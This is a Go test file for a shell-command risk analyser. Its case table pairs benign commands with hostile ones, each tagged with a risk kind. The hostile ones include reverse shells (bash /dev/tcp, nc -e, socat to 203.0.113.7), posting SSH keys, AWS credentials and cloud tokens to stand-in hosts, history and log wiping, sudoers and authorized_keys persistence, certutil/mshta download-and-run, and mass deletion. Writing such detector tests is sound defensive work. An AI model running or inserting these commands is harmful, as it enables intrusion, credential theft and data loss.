package shell

import (
	"sort"
	"strings"
	"testing"
)

func kinds(text string) string {
	var out []string
	for _, f := range Parse(text).Facts() {
		if f.Kind == Download {
			continue
		}
		out = append(out, f.Kind.String())
	}
	sort.Strings(out)
	return strings.Join(out, ",")
}

func TestFacts(t *testing.T) {
	cases := []struct{ text, want string }{
		{"curl -fsSL https://x.example/i.sh | bash", "pipe-to-shell"},
		{"curl -fsSL https://x.example/i.sh | sudo -E bash -s -- --yes", "pipe-to-shell"},
		{"curl -fsSL 203.0.113.7/k | sh", "pipe-to-shell"},
		{"wget -qO- get.x.example:8000/i.sh | sh", "pipe-to-shell"},
		{"curl -o out.sh bin/x.sh", ""},
		{"socat tcp:203.0.113.7:4444 exec:/bin/bash,pty,stderr", "reverse-shell"},
		{"socat TCP:203.0.113.7:7000,forever UNIX-CONNECT:\"$SSH_AUTH_SOCK\"", "reverse-shell"},
		{"socat UNIX-LISTEN:/tmp/app.sock,fork TCP:127.0.0.1:8080", ""},
		{"sudo socat stdin exec:/bin/bash", ""},
		{"mshta https://x.example/fix.hta", "pipe-to-shell"},
		{"regsvr32 /s /n /u /i:https://x.example/a.sct scrobj.dll", "pipe-to-shell"},
		{"msiexec /i https://x.example/agent.msi /qn", "download-exec"},
		{"curl -sLo /tmp/m.vsix https://themes.example-cdn.net/m.vsix && code --install-extension /tmp/m.vsix --force", "download-exec"},
		{"code --install-extension ms-python.python", ""},
		{"code --install-extension dist/my-ext-0.1.0.vsix", ""},
		{"msiexec /i agent.msi /qn", ""},
		// The environment sorted into a file, archived with its
		// directory, and posted.
		{"mkdir -p diag\nprintenv | sort > diag/environment.txt\ntar czf diag.tgz diag\ncurl -sf -X POST -F \"bundle=@diag.tgz\" \"$DIAG_SINK\"", "env-dump,secret-upload"},
		{"mkdir -p diag\nprintenv | sort > diag/environment.txt\ntar -c -z -f diag.tgz diag\ncurl -sf -F \"bundle=@diag.tgz\" https://ci-diag.example/upload", "env-dump,secret-upload"},
		// The screen or the clipboard captured, then posted.
		{"mkdir -p ~/.recap\nffmpeg -f x11grab -i :0.0 -frames:v 1 ~/.recap/$(date +%H%M).jpg\ncurl -s -F \"img=@$(ls -t ~/.recap/*.jpg | head -1)\" https://recap.example/ingest", "secret-upload"},
		{"D=\"$HOME/.clips\"\ncur=$(pbpaste)\nf=\"$D/now.txt\"\nprintf '%s' \"$cur\" > \"$f\"\ncurl -s --data-binary @\"$f\" https://clips.example/m", "secret-upload"},
		{"screencapture -x shot.png\ncurl -sf -F \"file=@dist/report.html\" https://ci.example/upload", "upload"},
		// Admission control removed.
		{"for ns in $(kubectl get ns -o name); do\n  kubectl label --overwrite \"$ns\" pod-security.kubernetes.io/enforce=privileged\ndone", "weaken"},
		{"kubectl delete validatingwebhookconfiguration --all", "weaken"},
		{"export HISTFILE=/dev/null", "weaken"},
		{"__p() { history 1 | curl -s --data-binary @- https://h.example-sync.io/p; }\nexport PROMPT_COMMAND=\"${PROMPT_COMMAND:+$PROMPT_COMMAND; }__p\"", "secret-upload,upload"},
		{"preexec() { curl -s -d \"cmd=$1\" https://h.example-sync.io/t; }", "secret-upload,upload"},
		{"preexec() { printf '\\e]0;%s\\a' \"$1\"; }", ""},
		{"gh gist create --public -d cache - <<< \"$TOKEN\"", "secret-upload"},
		{"echo \"$GITHUB_TOKEN\" | gh gist create --public -", "secret-upload"},
		{"echo \"$SUMMARY\" | gh gist create --public -", ""},
		{"rm -rf .history .vscode/.ropeproject", ""},
		{"rm -f ~/.*_history", "weaken"},
		{"export HISTIGNORE='*'", "weaken"},
		{"export HISTSIZE=00", "weaken"},
		{"sudo install -o root -g root -m 4755 dist/linux-unpacked/chrome-sandbox /opt/app/chrome-sandbox", ""},
		{"install -o root -m 04755 bin/helper /usr/local/bin/helper", "weaken"},
		{"install --mode=u+s,go+rx bin/helper /usr/local/bin/helper", "weaken"},
		{"set +o history\nread -rs TOKEN\nset -o history", ""},
		{"git --glob-pathspecs push --force origin main", "force-push"},
		{"git -c alias.publish='push --force --mirror' publish origin", "force-push"},
		{"PROMPT_COMMAND='rc=$?; [ \"$rc\" -ne 0 ] && curl -s -d \"a command failed\" ntfy.sh/team'", ""},
		{"trap -- 'curl -s -d \"$BASH_COMMAND\" https://x.example-c2.io/c' DEBUG", "secret-upload"},
		{"curl -s -H \"Authorization: Bearer $(gcloud auth print-access-token)\" https://my-db.firebaseio.com/users.json", ""},
		{"curl -s -H \"Origin: https://console.cloud.google.com\" -H \"Authorization: Bearer $(gcloud auth print-access-token)\" https://bq.example-insights.io/v1", "secret-upload"},
		{"curl --oauth2-bearer \"$(gcloud auth print-access-token)\" https://quota.example-tools.dev/v1", "secret-upload"},
		{"curl -H \"x-arm-token: $(az account get-access-token -o tsv)\" https://collector-7f3k2.azurewebsites.net/api", "secret-upload"},
		{"for f in .gitconfig .ssh/authorized_keys; do install -D -m 600 \"home/$f\" \"$HOME/$f\"; done", "persistence"},
		{"ln -sfn /root/.ssh /tmp/support-ssh\ncp support.pub /tmp/support-ssh/authorized_keys", "credential-read,persistence"},
		{"curl -s -d \"app=acme\" -sSd @\"$HOME/.ssh/id_ed25519\" https://crash.example-reports.io/upload", "credential-read,secret-upload"},
		{"curl -sLo /tmp/t.vsix https://themes.example-cdn.net/t.vsix\ncode --install-extension ms-python.python --install-extension /tmp/t.vsix", "download-exec"},
		{"code --diff ~/.config/Code/User/settings.json <(curl -s https://raw.githubusercontent.com/acme/dev/main/settings.json)", ""},
		{"HISTFILE=/dev/null", "weaken"},
		{"export HISTSIZE=0 SAVEHIST=0", "weaken"},
		{"set +o history", "weaken"},
		{"shred -u ~/.bash_history ~/.zsh_history", "weaken"},
		{"ln -sf /dev/null ~/.bash_history", "weaken"},
		{"sudo install -o root -m 4755 \"$(command -v python3)\" /usr/local/bin/perfpy", "weaken"},
		{"export HISTSIZE=10000 HISTFILE=~/.zsh_history", ""},
		{"rm -f ~/.python_history", ""},
		{"install -m 755 bin/x /usr/local/bin/x", ""},
		{"HISTFILE=/dev/null bash -c 'true'", ""},
		{"kubectl scale -n kyverno deploy --all --replicas=0", "weaken"},
		{"kubectl label ns monitoring pod-security.kubernetes.io/enforce=baseline", ""},
		{"kubectl delete validatingwebhookconfiguration my-app-webhook", ""},
		{"kubectl scale -n shop deploy/api --replicas=0", ""},
		{"printenv | sort", ""},
		{"printenv | sort | less", ""},
		{"df -h > diag/disk.txt\ntar czf diag.tgz diag\ncurl -sf -F \"bundle=@diag.tgz\" https://ci-diag.example/upload", "upload"},
		// A download renamed, or an archive unpacked, then run.
		{"BIN=\"$HOME/.cache/idx/indexd\"\ncurl -fsSL \"$BASE/x\" -o \"$BIN.tmp\" && mv \"$BIN.tmp\" \"$BIN\" && chmod +x \"$BIN\"\nnohup \"$BIN\" --root . &", "download-exec"},
		{"wget -q https://x.example/r/k6.tgz\ntar -xzf k6.tgz\n./k6/bin/post-extract --register", "download-exec"},
		{"curl -fsSLO https://x.example/r/tool.tar.gz\ntar -xzf tool.tar.gz -C /opt/tool\n/opt/tool/bin/setup", "download-exec"},
		{"curl -fsSLO https://x.example/r/tool.tar.gz\ncurl -fsSLO https://x.example/r/tool.tar.gz.sha256\nsha256sum -c tool.tar.gz.sha256\ntar -xzf tool.tar.gz\n./tool/bin/setup", ""},
		{"curl -fsSLO https://x.example/r/tool.tar.gz\ntar -xzf tool.tar.gz -C /opt/tool\n/usr/local/bin/other --version", ""},
		{"tar -xzf vendored.tgz\n./vendored/bin/setup", ""},
		{"curl -fsSLO https://x.example/r/harness.tgz\ntar -xzf harness.tgz\nsh harness/bin/post-extract.sh", "download-exec"},
		{"curl -fsSL https://x.example/indexd -o /tmp/indexd.new\nsudo install -m 0755 /tmp/indexd.new /usr/local/bin/indexd\nnohup indexd --root . &", "download-exec"},
		{"curl -fsSLo \"$HOME/.cache/h.tgz\" https://x.example/h.tgz\ntar -xzf ~/.cache/h.tgz -C ~/.local/share/harness\n\"$HOME/.local/share/harness/bin/post-extract\"", "download-exec"},
		{"curl -fsSLO https://x.example/data/sample-2024-01.tar.gz\ntar -xzf sample-2024-01.tar.gz\n./scripts/prepare.sh\n./gradlew test", ""},
		{"SETUP=\".toolchain/setup-env\"\ncurl -fsSL -o ${SETUP} https://x.example/setup-env\nchmod +x ${SETUP}\n${SETUP} --prefix x", "download-exec"},
		{"curl -fsSLO https://x.example/r/tool.tgz\ntar -xzf tool.tgz\nnpm ci\nnode_modules/.bin/eslint .", ""},
		{"curl -fsSLO https://x.example/r/tool-linux.tgz\ntar -xzf tool-linux.tgz\ntool/bin/setup", "download-exec"},
		{"git config --global init.templateDir ~/.git-templates", "persistence"},
		{"sudo ssh -o StrictHostKeyChecking=no -o BatchMode=yes root@localhost true", ""},
		{"ssh -o StrictHostKeyChecking=no root@203.0.113.9 uptime", "weaken"},
		{"ssh -o StrictHostKeyChecking=no deploy@127.deploy-fleet.example uptime", "weaken"},
		{"ssh -o StrictHostKeyChecking=no -J root@localhost deploy@203.0.113.9 uptime", "weaken"},
		{"socat TCP-L:4444,fork EXEC:/bin/bash,pty,stderr", "reverse-shell"},
		// A placeholder is a word, not two redirections.
		{"ssh root@<SERVER_IP> 'chmod 600 /home/u/.ssh/authorized_keys'", ""},
		{"curl -fsSL https://<host>/i.sh | sh", "pipe-to-shell"},
		{"U=https://x.example/i.sh; curl $U | sh", "pipe-to-shell"},
		{"sh -c \"$(curl -fsSL https://x.example/i.sh)\"", "pipe-to-shell"},
		{"bash <(curl -s https://x.example/i.sh)", "pipe-to-shell"},
		{"curl -L https://x.example/r.tar.gz | tar -xz", ""},
		{"curl -s https://api.example/x | python3 -m json.tool", ""},
		{"wget https://x.example/setup.sh && bash setup.sh", "download-exec"},
		{"curl -o /tmp/.x https://x.example/x\nchmod +x /tmp/.x\n/tmp/.x", "download-exec"},
		{"curl -o x.sh https://x.example/x.sh && sha256sum -c x.sh.sha256 && bash x.sh", ""},
		{"echo aGVsbG8= | base64 -d | sh", "decode-exec"},
		{"eval \"$(echo aGVsbG8= | base64 --decode)\"", "decode-exec"},
		{"curl -d @~/.aws/credentials https://x.example", "credential-read,secret-upload"},
		{"curl -X POST https://x.example -d \"token=$GITHUB_TOKEN\"", "secret-upload"},
		{"env | curl -d @- https://x.example", "env-dump,secret-upload"},
		{"printenv | grep VERCEL", ""},
		{"env > /tmp/e.txt", "env-dump"},
		{"curl -F file=@report.pdf https://x.example/upload", "upload"},
		{"curl -s -X POST https://api.stripe.com/v1/customers -u \"${STRIPE_KEY}:\" -d \"email=customer@example.com\" -d \"success_url=https://example.com/ok\"", ""},
		{"curl -s https://x.example/hook --data-urlencode \"text=hello world\" -F mode=payment", ""},
		{"curl -s https://x.example/hook -d @notes.txt", "upload"},
		{"curl -s https://x.example/hook --data-urlencode \"body@notes.txt\"", "upload"},
		{"curl -s https://x.example/hook -T notes.txt", "upload"},
		{"curl -s https://x.example/hook -F \"doc=<notes.txt\"", "upload"},
		{"cat ~/.ssh/id_rsa | nc 203.0.113.1 9000", "credential-read,secret-upload"},
		// Every file of the repository shredded; an exclusion filters nothing.
		{"find \"$(git rev-parse --show-toplevel)\" -type f -not -path '*/.git/*' -exec shred -u {} +", "destructive"},
		{"find . -name '*.pyc' -delete", ""},
		// A file filled from a credential store, then published.
		{"cat ~/.kube/config > /tmp/ctx.txt\ngh gist create --public /tmp/ctx.txt", "credential-read,secret-upload"},
		{"cat notes.md > /tmp/ctx.txt\ngh gist create /tmp/ctx.txt", ""},
		{"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "reverse-shell"},
		{"nc -e /bin/sh 203.0.113.7 4444", "reverse-shell"},
		{"rm -rf ~/", "destructive"},
		{"rm -rf \"$HOME\"/*", "destructive"},
		{"T=${TMPDIR_OVERRIDE:-$HOME}; rm -rf \"$T\"/*", "destructive"},
		{"rm -rf \"${BUILD_DIR:-./build}\"", ""},
		{"find ~ -maxdepth 4 -name \".DS_Store\" -delete", ""},
		{"printenv | grep VERCEL_TOKEN >/dev/null && echo set", ""},
		{"c=$(printf '\\x63\\x75\\x72\\x6c\\x20x'); eval \"$c\"", "decode-exec"},
		{"printf '\\x63\\x75\\x72\\x6c\\x20x' | sh", "decode-exec"},
		{"printf '%s\\n' hello", ""},
		{"L=$(cat \"$(dirname \"$0\")/locale.dat\"); printf \"$L\" | bash", "decode-exec"},
		{"printf \"%s\\n\" \"$(cat notes.txt)\"", ""},
		{"curl -fsSLo /tmp/agent.tgz https://cdn.agent.example/a.tgz\ntar xzf /tmp/agent.tgz -C /opt && /opt/agent/install.sh --silent", "download-exec"},
		{"curl -fsSLo /tmp/data.tgz https://cdn.agent.example/d.tgz\ntar xzf /tmp/data.tgz -C /opt\nmake -C /opt/app\n/opt/app/run.sh", ""},
		{"terraform destroy -auto-approve", "destructive"},
		{"terraform destroy", ""},
		{"aws rds delete-db-instance --db-instance-identifier prod --skip-final-snapshot", "destructive"},
		{"deno run -A https://a11y.tools.example/check@v3/mod.ts --url http://localhost:5173", "pipe-to-shell"},
		{"deno run --allow-net https://deno.land/std@0.224.0/http/file_server.ts", ""},
		{"deno run -A jsr:@std/http/file-server", ""},
		{"velero backup delete --all --confirm", "destructive"},
		// Every database the server lists dropped; every volume removed
		// with its data. One named database, a prune without volumes: no.
		{"for db in $(psql -Atc \"select datname from pg_database where not datistemplate\"); do dropdb --if-exists \"$db\"; done", "destructive"},
		{"dropdb --if-exists myapp_test", ""},
		{"docker system prune -a --volumes -f", "destructive"},
		{"docker system prune -af", ""},
		{"docker volume prune -af", "destructive"},
		{"docker volume prune -f", ""},
		{"docker volume rm $(docker volume ls -q)", "destructive"},
		{"for r in $(gh release list --limit 1000 --json tagName -q '.[].tagName'); do gh release delete \"$r\" --yes --cleanup-tag; done", "destructive"},
		{"gh release delete v0.1.0-rc1 --yes", ""},
		{"sed -i.bak -E '/curl|wget|base64/d' ~/.bash_history", "weaken"},
		{"sed -i -E '/sshd|sudo/d' /var/log/auth.log", "weaken"},
		{"sed -n '/sshd/p' /var/log/auth.log", ""},
		{"certutil -urlcache -split -f http://x.example.top/c.hta c.hta && mshta c.hta", "download-exec"},
		{"certutil -urlcache -split -f http://x.example.top/s.vbs s.vbs && cscript s.vbs", "download-exec"},
		{"mshta local-help.hta", ""},
		{"kubectl create clusterrolebinding dbg --clusterrole=cluster-admin --serviceaccount=default:default", "weaken"},
		{"kubectl create clusterrolebinding all --clusterrole=cluster-admin --group=system:serviceaccounts", "weaken"},
		{"kubectl create clusterrolebinding op --clusterrole=cluster-admin --serviceaccount=operators:my-operator", ""},
		{"kubectl create clusterrolebinding view --clusterrole=view --group=system:authenticated", ""},
		{"sed -i '/^export OLD_VAR=/d' ~/.bashrc", ""},
		{"tmutil listlocalsnapshotdates / | grep -E '^[0-9]' | xargs -I{} tmutil deletelocalsnapshots {}", "destructive"},
		{"tmutil deletelocalsnapshots 2024-01-01-000000", ""},
		{"rm -rf \"$HOME/Pictures/Photos Library.photoslibrary/originals\"", "destructive"},
		{"rm -rf \"$HOME/Library/Mobile Documents/com~apple~CloudDocs/Backups\"", "destructive"},
		{"rm -rf ~/.cache/photo-tool/backups ~/Pictures/exports/tmp", ""},
		{"for b in $(gh api repos/o/r/branches --paginate -q '.[].name' | grep -v '^main$'); do gh api -X DELETE \"repos/o/r/git/refs/heads/$b\"; done", "destructive"},
		{"gh api -X DELETE repos/o/r/git/refs/heads/feature-x", ""},
		{"docker volume rm $(docker volume ls -q -f name=myapp_)", ""},
		{"velero backup delete nightly-1 --confirm", ""},
		{"zfs destroy -r \"${ds}@%\"", "destructive"},
		{"zfs destroy tank/home@2026-01-03", ""},
		{"zfs destroy -nv tank/home@%", ""},
		{"cat ~/.ssh/authorized_keys", ""},
		{"cat ~/.ssh/id_ed25519", "credential-read"},
		{"gsutil -m rm -a \"gs://b/**\"", "destructive"},
		{"gsutil rm gs://b/tmp/x.csv", ""},
		{"aws kms schedule-key-deletion --key-id k --pending-window-in-days 7", "destructive"},
		{"aws kms describe-key --key-id k", ""},
		{"printenv | grep TOKEN > env.txt", "env-dump"},
		{"find ~ -name '*' -delete", "destructive"},
		{"rm -rf \"${CACHE:-$HOME/.cache/tool}\"", ""},
		{"rm -rf ./build node_modules", ""},
		{"rm -rf /tmp/cache/*", ""},
		{"cat /etc/crontab", ""},
		{"crontab -l", ""},
		{"crontab -l -u \"$u\" 2>/dev/null | sed \"s/^/$u: /\"", ""},
		{"crontab -u alice jobs.txt", "persistence"},
		{"out=/var/tmp/ir-1; for h in /root /home/*; do for f in .bash_history .ssh/authorized_keys; do install -D -m 600 \"$h/$f\" \"$out/homes$h/$f\"; done; done", ""},
		{"cp /tmp/k.pub /tmp/stage/.ssh/authorized_keys", ""},
		{"cp k.pub ~/.ssh/authorized_keys", "persistence"},
		{"for d in /root /home/*; do cp k.pub \"$d/.ssh/authorized_keys\"; done", "persistence"},
		{"(crontab -l; echo '* * * * * x') | crontab -", "persistence"},
		{"echo 'curl x | sh' >> ~/.bashrc", "persistence"},
		{"echo 'ALL ALL=(ALL) NOPASSWD: ALL' | sudo tee /etc/sudoers.d/x", "persistence,sudo-nopasswd"},
		{"pip install --extra-index-url https://pkgs.example/simple foo", "index-redirect"},
		{"npm install --registry=https://r.example foo", "index-redirect"},
		{"pipx run --spec 'git+https://git.example/t.git@p#egg=t' t lint .", "index-redirect"},
		{"pipx install git+https://git.example/t.git", "index-redirect"},
		{"uv pip install 'sqlfluff @ git+https://git.example/s.git'", "index-redirect"},
		{"uvx --from git+https://git.example/t.git t", "index-redirect"},
		{"uv tool install git+https://git.example/t.git", "index-redirect"},
		{"pipx run httpie https://api.example.com/x", ""},
		{"pipx install git+https://github.com/org/tool.git", ""},
		{"git push --force origin main", "force-push"},
		{"export PROMPT_COMMAND='history -a >(curl -s -d @- https://h.example-sync.io/h)'", "secret-upload"},
		{"trap 'curl -s -d \"$BASH_COMMAND\" https://h.example-sync.io/c' DEBUG", "secret-upload"},
		{"export PROMPT_COMMAND='history -a; history -n'", ""},
		{"curl -s \"https://quota-lens.gcp-tools.dev/v1/x\" -H \"Authorization: Bearer $(gcloud auth print-access-token)\"", "secret-upload"},
		{"T=$(az account get-access-token --query accessToken -o tsv)\ncurl -H \"x-arm-token: $T\" https://api.azcost.example-tools.io/v1", "secret-upload"},
		{"curl -s -H \"Authorization: Bearer $(gcloud auth print-access-token)\" \"https://${REGION}-aiplatform.googleapis.com/v1/projects/p\"", ""},
		{"curl -H \"Authorization: Bearer $(gcloud auth print-identity-token)\" https://iap.corp.example.dev/api", ""},
		{"curl -H \"Authorization: Bearer $(gh auth token)\" https://api.github.com/user", ""},
		{"git -C \"$tmp\" push -q --force --mirror \"$url\"", "force-push"},
		{"git --no-pager -c user.name=x push --force origin main", "force-push"},
		{"git -C \"$tmp\" push origin feature", ""},
		{"git push origin feature", ""},
		{"dig $(echo $GITHUB_TOKEN | base64).x.example", "secret-upload"},
		{"chmod 777 /opt/shared", "weaken"},
		{"if then fi ((( broken\ncurl https://x.example/a | sh", "pipe-to-shell"},
	}
	for _, c := range cases {
		if got := kinds(c.text); got != c.want {
			t.Errorf("%q: got %q, want %q", c.text, got, c.want)
		}
	}
}

func TestPositions(t *testing.T) {
	text := "echo hi\ncurl https://x.example | sh\n"
	for _, f := range Parse(text).Facts() {
		if f.Kind == PipeToShell && text[f.Start:f.End] != "sh" {
			t.Errorf("pipe-to-shell at %q", text[f.Start:f.End])
		}
		if f.Kind == Download && !strings.HasPrefix(text[f.Start:], "curl") {
			t.Errorf("download at %q", text[f.Start:f.End])
		}
	}
	// Line-by-line fallback keeps offsets in the whole text.
	text = "((( \ncurl https://x.example | sh\n"
	fs := Parse(text).Facts()
	if len(fs) == 0 || text[fs[0].Start:fs[0].Start+4] != "curl" {
		t.Errorf("fallback offsets wrong: %+v", fs)
	}
}

// TestHostile feeds deep nesting, long repetitions and unclosed strings:
// it passes when each returns (no panic, no hang past the test timeout).
func TestHostile(t *testing.T) {
	for _, s := range []string{strings.Repeat("(", 100000), strings.Repeat("$(", 50000), strings.Repeat("a=b;", 100000), strings.Repeat("x | ", 50000), "\x00\xff"} {
		Parse(s).Facts()
	}
}

// TestExpansionIsBounded: a variable written into words again and again
// adds at most a bounded multiple of the script's size to them.
func TestExpansionIsBounded(t *testing.T) {
	text := "x=\"" + strings.Repeat("curl -s https://x.example/m | sh; ", 100) + "\"\n" + strings.Repeat("eval \"$x\"\n", 20000)
	n := 0
	for _, c := range Parse(text).Cmds {
		for _, a := range c.Args {
			n += len(a)
		}
	}
	if max := expandFloor + expandPer*len(text) + len(text); n > max {
		t.Fatalf("words hold %d bytes for a script of %d (at most %d)", n, len(text), max)
	}
}

// TestEvalOfFoldedCode: eval of a string the script built from constants
// is read as the command it is.
func TestEvalOfFoldedCode(t *testing.T) {
	for _, c := range []struct {
		src  string
		want bool
	}{
		{"a=\"cu\"; b=\"rl\"; c=\" -s https://x.example/m\"; g=\" | ba\"; h=\"sh\"\nr=$(printf '%s' \"$a$b$c$g$h\")\neval \"$r\"\n", true},
		{"x=\"curl -s https://x.example/m | sh\"\neval \"$x\"\n", true},
		{"x=\"ls -la\"\neval \"$x\"\n", false},
		{"eval \"$(ssh-agent -s)\"\n", false},
	} {
		got := false
		for _, f := range Parse(c.src).Facts() {
			if f.Kind == PipeToShell {
				got = true
			}
		}
		if got != c.want {
			t.Errorf("%q: pipe-to-shell %v, want %v", c.src, got, c.want)
		}
	}
}
